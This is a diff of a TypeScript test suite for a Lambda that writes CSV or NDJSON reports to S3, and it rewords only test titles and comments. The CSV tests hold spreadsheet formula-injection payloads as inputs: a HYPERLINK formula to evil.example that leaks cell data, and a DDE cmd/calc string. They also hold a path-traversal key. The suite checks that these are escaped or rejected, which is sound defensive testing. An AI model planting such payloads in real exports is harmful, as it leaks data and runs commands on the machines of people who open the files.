@@ -17,11 +17,11 @@ import { type ReportToS3Options, reportToS3 } from './recipe.js';
 
 const MiB = 1024 * 1024;
 
-/** What S3 answers in place of success, by the operation; each of them once. */
+/** The failures of S3, by operation. Each is sent once, in order. */
 let failures: Record<string, HttpAnswer[]>;
 let s3: HttpServer;
 
-/** `PutObject`, `UploadPart 2`: which operation a request of S3 is. */
+/** The operation of a request to S3: `PutObject`, `UploadPart 2`. */
 function operationOf(method: string, path: string): string {
   const query = new URL(path, 'http://s3').searchParams;
   if (query.has('uploads')) return 'CreateMultipartUpload';
@@ -76,7 +76,7 @@ function report(overrides: Partial<ReportToS3Options> = {}, context = lambdaCont
   return captureOutput(() => invoke(reportToS3(options(overrides)), schedulerEvent(), context));
 }
 
-/** A report of a function whose time is over when S3 has got a part. */
+/** Runs a report in a function whose time is over after S3 has the first part. */
 async function reportOutOfTime(overrides: Partial<ReportToS3Options>) {
   vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] });
   try {
@@ -89,28 +89,28 @@ async function reportOutOfTime(overrides: Partial<ReportToS3Options>) {
   }
 }
 
-/** What is in the object that was put. */
+/** The content of the written object. */
 async function written(overrides: Partial<ReportToS3Options>): Promise<string> {
   const { error } = await report(overrides);
   expect(error).toBeUndefined();
   return s3.requests.at(-1)?.body ?? '';
 }
 
-/** Rows of a mebibyte each. */
+/** Rows of one mebibyte each. */
 async function* mebibytes(count: number) {
   for (let row = 0; row < count; row += 1) yield { text: 'x'.repeat(MiB - 12) };
 }
 
-/** An object that is inside of itself, and one that is only there twice. */
+/** An object that contains itself, and one that occurs twice. */
 const loop: Record<string, unknown> = { a: 1 };
 loop.self = loop;
 const twice = { a: 1 };
 
-/** What every object inherits. */
+/** The names that every object inherits. */
 const INHERITED = ['constructor', 'toString', 'valueOf', 'hasOwnProperty', '__proto__'];
 
 describe('report-to-s3', () => {
-  it('puts a report where there is none, under a key of the scheduled time', async () => {
+  it('writes a report if its key is free, with the scheduled time in the key', async () => {
     const { result, lines } = await report();
     expect(s3.requests).toMatchObject([
       {
@@ -143,14 +143,14 @@ describe('report-to-s3', () => {
 
   it.each([
     ['a rule of EventBridge', scheduleRuleEvent()],
-    ["an Input of one's own", { time: '2026-11-22T10:00:00Z' }],
+    ['a custom Input', { time: '2026-11-22T10:00:00Z' }],
     ['an attempt some seconds later', schedulerEvent({ time: '2026-11-22T10:00:59Z' })],
   ])('has the same key for %s', async (_, event) => {
     const { result } = await captureOutput(() => invoke(reportToS3(options()), event));
     expect(result?.key).toBe('reports/2026-11-22.csv');
   });
 
-  it('tells the key and the rows the time in the time zone that is named', async () => {
+  it('passes the time in the time zone of the options to key and rows', async () => {
     const key = vi.fn(() => 'a');
     const rows = vi.fn(() => []);
     await report({ key, rows, timeZone: 'Pacific/Kiritimati' });
@@ -160,26 +160,26 @@ describe('report-to-s3', () => {
     );
   });
 
-  it('leaves alone what is already there, and is content', async () => {
+  it('does not change an existing report, and succeeds', async () => {
     failures = { PutObject: [failure(412, 'PreconditionFailed')] };
     const { result, error } = await report();
     expect(error).toBeUndefined();
     expect(result).toMatchObject({ outcome: 'ALREADY_THERE' });
   });
 
-  it('is content when its answer was lost, and it finds its own report there', async () => {
+  it('succeeds if a response was lost and it finds its own report', async () => {
     failures = { PutObject: ['hang up', failure(412, 'PreconditionFailed')] };
     expect((await report()).result).toMatchObject({ outcome: 'ALREADY_THERE' });
   });
 
-  it('does it all again when another run writes the same report at the same time', async () => {
+  it('starts again if another run writes the same report at the same time', async () => {
     failures = { PutObject: [failure(409, 'ConditionalRequestConflict')] };
     const rows = vi.fn(() => [{ a: 1 }]);
     expect((await report({ rows })).result).toMatchObject({ outcome: 'WRITTEN', rows: 1 });
     expect(rows).toHaveBeenCalledTimes(2);
   });
 
-  it('sends a long report in parts, and makes it an object only where there is none', async () => {
+  it('sends a long report in parts, and completes it only if the key is free', async () => {
     const rows = () => mebibytes(20);
     const { result } = await report({ rows, format: 'ndjson' });
     expect(operations()).toEqual([
@@ -207,7 +207,7 @@ describe('report-to-s3', () => {
     expect(result).toMatchObject({ rows: 20, bytes: 20 * MiB });
   });
 
-  it('asks for rows no faster than S3 takes them, however long the report is', async () => {
+  it('reads rows no faster than S3 accepts them, for a report of any length', async () => {
     let sent = 0;
     let taken = 0;
     let lead = 0;
@@ -233,7 +233,7 @@ describe('report-to-s3', () => {
       const context = lambdaContext({ getRemainingTimeInMillis: () => 60_000 });
       const { result } = await captureOutput(() => invoke(handler, schedulerEvent(), context));
       expect(result?.bytes).toBeGreaterThan(200 * MiB - 10_000);
-      // A part, what the streams hold, and rows of a mebibyte.
+      // A part, the buffers of the streams, and rows of a mebibyte.
       expect(lead).toBeLessThan(48 * MiB);
     } finally {
       server.closeAllConnections();
@@ -249,7 +249,7 @@ describe('report-to-s3', () => {
         'with AccessDenied, 403',
       ],
       [
-        'the end is refused',
+        'the completion is refused',
         { CompleteMultipartUpload: [failure(200, 'InvalidPart')] },
         'with InvalidPart, 200',
       ],
@@ -260,14 +260,14 @@ describe('report-to-s3', () => {
       expect(operations().at(-1)).toBe('AbortMultipartUpload');
     });
 
-    it('when there is one already', async () => {
+    it('when the report exists already', async () => {
       failures = { CompleteMultipartUpload: [failure(412, 'PreconditionFailed')] };
       const { result } = await report({ rows: () => mebibytes(9), format: 'ndjson' });
       expect(result).toMatchObject({ outcome: 'ALREADY_THERE' });
       expect(operations().at(-1)).toBe('AbortMultipartUpload');
     });
 
-    it('when another run is writing it, and then sends it again', async () => {
+    it('when another run is writing the report, and then sends it again', async () => {
       failures = { CompleteMultipartUpload: [failure(409, 'ConditionalRequestConflict')] };
       const { result } = await report({ rows: () => mebibytes(9), format: 'ndjson' });
       expect(result).toMatchObject({ outcome: 'WRITTEN' });
@@ -295,7 +295,7 @@ describe('report-to-s3', () => {
     });
 
     it.each(['csv', 'ndjson'] as const)(
-      'when rows of %s do not come before the time is over, and says so',
+      'when rows of %s do not come before the time is over, and logs it',
       async (format) => {
         async function* rows() {
           yield* mebibytes(9);
@@ -314,7 +314,7 @@ describe('report-to-s3', () => {
       expect(operations().at(-1)).toBe('AbortMultipartUpload');
     });
 
-    it('but says so in the log, when they cannot be removed', async () => {
+    it('or logs that they cannot be removed', async () => {
       failures = {
         'UploadPart 1': [failure(403, 'AccessDenied')],
         AbortMultipartUpload: [failure(403, 'AccessDenied')],
@@ -343,41 +343,41 @@ describe('report-to-s3', () => {
       ['true', true, 'true'],
       ['false', false, 'false'],
       ['a date', new Date('2026-11-22T10:00:00Z'), '2026-11-22T10:00:00.000Z'],
-      ['a date that is none', new Date(Number.NaN), ''],
-      ['a number that is none', Number.NaN, ''],
-      ['a number without end', Number.POSITIVE_INFINITY, ''],
-      ['a negative number without end', Number.NEGATIVE_INFINITY, ''],
+      ['an invalid date', new Date(Number.NaN), ''],
+      ['not a number', Number.NaN, ''],
+      ['infinity', Number.POSITIVE_INFINITY, ''],
+      ['negative infinity', Number.NEGATIVE_INFINITY, ''],
       ['negative zero', -0, '0'],
       ['a function', () => 'Ada', ''],
       ['a symbol', Symbol('Ada'), ''],
-      ['an object that says it is nothing', { toJSON: () => undefined }, ''],
+      ['an object whose JSON is undefined', { toJSON: () => undefined }, ''],
       ['an object', { a: [1n] }, '"{""a"":[""1""]}"'],
       [
-        'what is odd in an object',
+        'unusual values in an object',
         { a: [Number.NaN, new Date('x'), Symbol('a')] },
         '"{""a"":[null,null,null]}"',
       ],
-      ['an object that is inside of itself', loop, '"{""a"":1,""self"":null}"'],
+      ['an object that contains itself', loop, '"{""a"":1,""self"":null}"'],
       ['one object twice', [twice, [twice]], '"[{""a"":1},[{""a"":1}]]"'],
       [
         'a formula',
         '=HYPERLINK("http://evil.example/"&A1)',
         '"\'=HYPERLINK(""http://evil.example/""&A1)"',
       ],
-      ['a formula by a plus', "+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""],
-      ['a formula by a minus', '-2+3', '"\'-2+3"'],
-      ['a formula by an at', '@SUM(1+1)', '"\'@SUM(1+1)"'],
+      ['a formula with a plus', "+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""],
+      ['a formula with a minus', '-2+3', '"\'-2+3"'],
+      ['a formula with an at sign', '@SUM(1+1)', '"\'@SUM(1+1)"'],
       ['a formula behind a tab', '\t=1+1', '"\'\t=1+1"'],
       ['a formula behind a carriage return', '\r=1+1', '"\'\r=1+1"'],
       ['a formula behind a line feed', '\n=1+1', '"\'\n=1+1"'],
-      ['a formula of full width', '＝1+1', '"\'＝1+1"'],
+      ['a formula with a full-width equals sign', '＝1+1', '"\'＝1+1"'],
       ['a formula behind a quote', '"=1+1', '"""=1+1"'],
       ['a formula behind a delimiter', 'a,=1+1', '"a,=1+1"'],
     ])('writes %s', async (_, value, expected) => {
       expect(await written({ rows: [{ value }] })).toBe(`"value"\r\n${expected}\r\n`);
     });
 
-    it('does not run a formula in the name of a column', async () => {
+    it('escapes a formula in the name of a column', async () => {
       expect(await written({ rows: [{ '=1+1': 1 }] })).toBe('"\'=1+1"\r\n1\r\n');
     });
 
@@ -389,20 +389,20 @@ describe('report-to-s3', () => {
       expect(await written({ rows: [{ a: 1, b: 2 }], ...overrides })).toBe(expected);
     });
 
-    it('begins with the mark of UTF-8, where Excel is to read it', async () => {
+    it('begins with a byte order mark, with byteOrderMark', async () => {
       const unmarked = await report();
       const marked = await report({ byteOrderMark: true });
       expect(Number(marked.result?.bytes) - Number(unmarked.result?.bytes)).toBe(3);
     });
 
     it.each<[string, Partial<ReportToS3Options>, string]>([
-      ['nothing, of no rows', {}, ''],
-      ['the header, of no rows, where columns are named', { columns: ['a'] as never[] }, '"a"\r\n'],
+      ['nothing, without rows', {}, ''],
+      ['the header, without rows but with columns', { columns: ['a'] as never[] }, '"a"\r\n'],
     ])('has %s', async (_, overrides, expected) => {
       expect(await written({ rows: [], ...overrides })).toBe(expected);
     });
 
-    it('has cells of what a row has itself, and of nothing that it inherits', async () => {
+    it('has cells for own properties of a row, and none for inherited ones', async () => {
       const names = [...INHERITED, 'name'];
       const [header, row] = [names.map((name) => `"${name}"`), names.map(() => '')];
       const columns = names as never[];
@@ -411,12 +411,12 @@ describe('report-to-s3', () => {
       );
     });
 
-    it.each(INHERITED)('has a column of the name %s', async (name) => {
+    it.each(INHERITED)('has a column with the name %s', async (name) => {
       const own = JSON.parse(`{"${name}":"Ada"}`);
       expect(await written({ rows: [own, {}] })).toBe(`"${name}"\r\n"Ada"\r\n\r\n`);
     });
 
-    it('loses no value of a row that has more than the first', async () => {
+    it('fails if a row has a column that the first row does not have', async () => {
       const { error } = await report({ rows: [{ a: 1 }, { a: 1, 'ada@example.com': 2 }] });
       expect(error).toMatchObject({
         message: expect.stringContaining('Name all columns in the option "columns".'),
@@ -433,14 +433,14 @@ describe('report-to-s3', () => {
     };
 
     it.each<[string, object, string]>([
-      ['a date that is none', { a: new Date(Number.NaN) }, '{"a":null}'],
-      ['numbers that are none', { a: [Number.NaN, Number.NEGATIVE_INFINITY] }, '{"a":[null,null]}'],
+      ['an invalid date', { a: new Date(Number.NaN) }, '{"a":null}'],
+      ['NaN and infinity', { a: [Number.NaN, Number.NEGATIVE_INFINITY] }, '{"a":[null,null]}'],
       ['a function and a symbol', { a: () => 1, b: Symbol('b'), c: 1 }, '{"c":1}'],
-      ['what a row inherits', Object.create({ name: 'Ada' }), '{}'],
+      ['inherited properties', Object.create({ name: 'Ada' }), '{}'],
       ['an own __proto__', JSON.parse('{"__proto__":1}'), '{"__proto__":1}'],
-      ['a row that is inside of itself', loop, '{"a":1,"self":null}'],
+      ['a row that contains itself', loop, '{"a":1,"self":null}'],
       ['one object twice', { b: twice, c: [twice] }, '{"b":{"a":1},"c":[{"a":1}]}'],
-      ['a row that says it is nothing', { toJSON: () => undefined }, 'null'],
+      ['a row whose JSON is undefined', { toJSON: () => undefined }, 'null'],
       ['1,000 objects in each other', deep(1000), JSON.stringify(deep(1000))],
     ])('writes %s', async (_, row, expected) => {
       expect(await written({ rows: [row, { b: 1 }], format: 'ndjson' })).toBe(
@@ -448,7 +448,7 @@ describe('report-to-s3', () => {
       );
     });
 
-    it('ends what is deeper, and what makes itself anew for ever, without an error', async () => {
+    it('cuts deeper objects, and endless ones, without an error', async () => {
       const endless = { toJSON: () => ({ endless }) };
       const lines = await written({ rows: [deep(100_000), endless], format: 'ndjson' });
       expect(
@@ -460,7 +460,7 @@ describe('report-to-s3', () => {
       expect(lines).toMatch(/^(?:\{"a":){1000}null\}{1000}\n/);
     });
 
-    it('writes an object a line', async () => {
+    it('writes one object per line', async () => {
       const rows = [{ text: 'a\nb', n: 10n ** 20n, d: new Date(0) }, { '=': '=1+1' }];
       expect(await written({ rows, format: 'ndjson' })).toBe(
         '{"text":"a\\nb","n":"100000000000000000000","d":"1970-01-01T00:00:00.000Z"}\n{"=":"=1+1"}\n',
@@ -468,7 +468,7 @@ describe('report-to-s3', () => {
     });
   });
 
-  it('compresses, and says so', async () => {
+  it('compresses, and sets the content encoding', async () => {
     let body = Buffer.alloc(0);
     const server = createServer(async (request, response) => {
       expect(request.headers['content-encoding']).toBe('gzip');
@@ -491,27 +491,27 @@ describe('report-to-s3', () => {
     ['null', [null]],
   ])('refuses a row that is %s', async (_, rows) => {
     const { error } = await report({ rows: rows as object[] });
-    expect(error).toMatchObject({ message: 'A row is no object.' });
+    expect(error).toMatchObject({ message: 'A row is not an object.' });
     expect(s3.requests).toEqual([]);
   });
 
   it.each([
     ['an empty key', ''],
-    ['a key from above', 'reports/../secrets.csv'],
+    ['a key with a parent folder', 'reports/../secrets.csv'],
     ['a key of dots', 'reports/.'],
     ['a key that begins with a slash', '/reports.csv'],
     ['a key with a line break', 'reports\n.csv'],
     ['a key of half a character', 'reports\uD800.csv'],
     ['a key of over 1,024 bytes', 'ä'.repeat(513)],
     ['no text', 5 as unknown as string],
-  ])('refuses %s, and asks for no rows', async (_, key) => {
+  ])('refuses %s, and reads no rows', async (_, key) => {
     const rows = vi.fn(() => []);
     const { error } = await report({ key: () => key, rows });
     expect(error).toMatchObject({ message: expect.stringContaining('The key is not valid.') });
     expect(rows).not.toHaveBeenCalled();
   });
 
-  it('puts a key as it is, whatever is in it', async () => {
+  it('writes to exactly the given key', async () => {
     const key = "a b+c/ä%2F?#&'()*~.csv";
     const { result } = await report({ key: () => key });
     const [request] = s3.requests;
@@ -524,9 +524,17 @@ describe('report-to-s3', () => {
 
   it.each<[string, Record<string, string | undefined>, string]>([
     ['the only bucket', {}, 'reports'],
-    ['that for reports', { REPORTS_BUCKET_NAME: 'mine', UPLOADS_BUCKET_NAME: 'uploads' }, 'mine'],
-    ['that of no other name', { MY_REPORTS_BUCKET_NAME: undefined, BUCKET_NAME: 'mine' }, 'mine'],
-  ])('takes %s of the environment', async (_, environment, expected) => {
+    [
+      'the one for reports',
+      { REPORTS_BUCKET_NAME: 'mine', UPLOADS_BUCKET_NAME: 'uploads' },
+      'mine',
+    ],
+    [
+      'the one without a prefix',
+      { MY_REPORTS_BUCKET_NAME: undefined, BUCKET_NAME: 'mine' },
+      'mine',
+    ],
+  ])('uses %s from the environment', async (_, environment, expected) => {
     for (const [name, value] of Object.entries(environment)) vi.stubEnv(name, value);
     expect((await report()).result).toMatchObject({ bucketName: expected });
   });
@@ -543,14 +551,14 @@ describe('report-to-s3', () => {
       { MY_REPORTS_BUCKET_NAME: '<value will be resolved during runtime>' },
       'bucketName is missing',
     ],
-  ])('does not start where the environment %s', (_, environment, problem) => {
+  ])('does not start if the environment %s', (_, environment, problem) => {
     for (const [name, value] of Object.entries(environment)) vi.stubEnv(name, value);
     expect(() => reportToS3(options())).toThrow(OptionsError);
     expect(() => reportToS3(options())).toThrow(problem);
   });
 
   it.each<[string, object, string]>([
-    ['a generator, which has rows only once', { rows: mebibytes(1) }, 'a function that returns'],
+    ['a generator, which can be read only once', { rows: mebibytes(1) }, 'a function that returns'],
     ['an iterator', { rows: [].values() }, 'a function that returns'],
     ['a stream', { rows: Readable.from([]) }, 'a function that returns'],
     ['no rows', { rows: undefined }, 'rows is missing'],
@@ -559,8 +567,12 @@ describe('report-to-s3', () => {
     ['columns of ndjson', { format: 'ndjson', columns: ['a'] }, 'Only the format csv'],
     ['no columns', { columns: [] }, 'Name at least one.'],
     ['a column twice', { columns: ['a', 'a'] }, 'Name each once.'],
-    ['a delimiter that is none', { delimiter: 'x' }, 'delimiter is not valid'],
-    ['a time zone that there is not', { timeZone: 'Europe/Atlantis' }, 'IANA name of a time zone'],
+    ['an invalid delimiter', { delimiter: 'x' }, 'delimiter is not valid'],
+    [
+      'a time zone that does not exist',
+      { timeZone: 'Europe/Atlantis' },
+      'IANA name of a time zone',
+    ],
     ['a bucket by its ARN', { bucketName: 'arn:aws:s3:::reports' }, 'bucketName is not valid'],
     ['an unknown option', { prefix: 'a' }, 'prefix is not an option'],
   ])('refuses %s before the first event', (_, changes, problem) => {
@@ -568,7 +580,7 @@ describe('report-to-s3', () => {
     expect(() => reportToS3({ ...options(), ...changes })).toThrow(problem);
   });
 
-  it('refuses an event that is none of a schedule, and writes nothing', async () => {
+  it('refuses an event that is not from a schedule, and writes nothing', async () => {
     const { error } = await captureOutput(() =>
       invoke(reportToS3(options()), JSON.parse('{"Records":[]}')),
     );
